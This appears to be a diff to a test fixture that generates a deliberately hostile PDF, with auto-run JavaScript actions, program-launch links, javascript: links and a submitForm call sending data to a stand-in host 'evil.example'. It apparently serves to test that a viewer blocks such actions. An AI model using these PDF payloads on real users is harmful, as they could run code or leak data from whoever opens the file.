@@ -45,11 +45,19 @@ export function makePdf(path, pages, extra = {}) {
   writeFileSync(path, Buffer.from(out, "latin1"));
 }
 
+/** The hostile PDF's text: a sentence to search for, then a line under each link. */
+export const HOSTILE_LINES = [
+  "The marmoset lantern glows over the harbour at night.",
+  "This line is a launch link to a program.",
+  "This line is a link that runs JavaScript.",
+  "This line links to a remote server.",
+];
+
 /** A one-page PDF that tries to run code: JavaScript when opened (the catalog's
  *  OpenAction, its JavaScript name tree, the page's open action), and links over the
  *  text that run JavaScript, launch a program, and go to `javascript:` and remote
  *  URLs. `lines` is its text. Each script would set `window.__pwned` and alert. */
-export function makeHostilePdf(path, lines) {
+export function makeHostilePdf(path, lines = HOSTILE_LINES) {
   const js = (n) => `<< /S /JavaScript /JS (window.__pwned=${n}; app.alert\\(${n}\\); this.submitForm\\(\\{cURL: "http://evil.example/${n}"\\}\\)) >>`;
   const link = (y, action) => `<< /Type /Annot /Subtype /Link /Rect [60 ${y} 560 ${y + 14}] /Border [0 0 0] /A ${action} >>`;
   makePdf(path, [lines], {
